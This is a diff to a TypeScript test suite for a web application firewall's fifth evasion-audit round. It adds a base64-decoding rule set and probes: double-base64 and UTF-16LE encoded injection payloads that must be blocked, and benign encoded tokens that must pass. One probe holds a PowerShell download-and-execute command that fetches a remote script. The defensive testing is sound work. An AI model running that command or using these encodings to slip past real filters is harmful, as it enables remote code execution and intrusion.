@@ -1,6 +1,6 @@
 // WAF evasion, fifth round (docs/security.md, "Session 27 WAF evasion audit"): rule exclusions by
 // argument name against names a backend reads apart, XML with an internal DTD subset, multipart
-// parts as Rack 3.1 reads them, ... Real gateways on loopback with the
+// parts as Rack 3.1 reads them, base64 decoded twice or as UTF-16LE (`--extra-rules base64`). Real gateways on loopback with the
 // in-process WAF (CRS PL1), a recording upstream, exact bytes over a socket. Every probe was also
 // sent to nginx + ModSecurity 3.0.9 with the same CRS and the same exclusions, and the multipart
 // bodies to Rack 3.1.22's parser (its lib run under Debian's Ruby 3.1) and Rack 2.2.
@@ -43,6 +43,7 @@ describe('WAF evasion, fifth round', () => {
   let upstream: TestUpstream;
   let excluded: { port: number; close: () => Promise<void> };
   let strict: { port: number; close: () => Promise<void> };
+  let base64: { port: number; close: () => Promise<void> };
   const tmp = mkdtempSync(join(tmpdir(), 'waf-evasion-5-'));
 
   before(async () => {
@@ -51,11 +52,13 @@ describe('WAF evasion, fifth round', () => {
     writeFileSync(file, EXCLUSIONS);
     excluded = await start(config(upstream.address, `exclusions-file "${file}"`));
     strict = await start(config(upstream.address, ''));
+    base64 = await start(config(upstream.address, 'extra-rules "base64"'));
   });
 
   after(async () => {
     await excluded?.close();
     await strict?.close();
+    await base64?.close();
     await upstream?.close();
     rmSync(tmp, { recursive: true, force: true });
   });
@@ -129,5 +132,27 @@ describe('WAF evasion, fifth round', () => {
       ]),
       [],
     );
+  });
+
+  test('extra-rules "base64": base64 decoded twice or as UTF-16LE (PowerShell -EncodedCommand) is read; benign tokens pass', async () => {
+    const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
+    const le = (s: string): Buffer => Buffer.from(s, 'utf16le');
+    // forwarded (200) before: the set decoded one layer, as UTF-8 (the CRS and ModSecurity decode none)
+    assert.deepEqual(
+      await leakedProbes(base64.port, upstream, [
+        ['base64 of base64', req('GET', `/x?data=${enc(b64(b64(union)))}`, [])],
+        ['UTF-16LE base64', req('GET', `/x?data=${enc(b64(le(union)))}`, [])],
+        ['PowerShell -EncodedCommand', req('GET', `/x?c=${enc(b64(le("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")))}`, [])],
+      ]),
+      [],
+    );
+    const jwt = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
+    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+    const benign: [string, Buffer][] = [
+      ['base64 of base64 of a sentence', req('GET', `/x?a=${enc(b64(b64('Meet me at the station at 5 pm, bring the tickets.')))}`, [])],
+      ['UTF-16LE base64 of a sentence', req('GET', `/x?a=${enc(b64(le('Quarterly report, final version (2)')))}`, [])],
+      ['a JWT, a PNG and a UUID', req('GET', `/x?img=${enc(png)}&id=${b64('123e4567-e89b-12d3-a456-426614174000')}`, [`Authorization: Bearer ${jwt}`])],
+    ];
+    for (const [name, bytes] of benign) assert.deepEqual(await leakedProbes(base64.port, upstream, [[name, bytes]]), [`${name}: 200 (forwarded)`]);
   });
 });
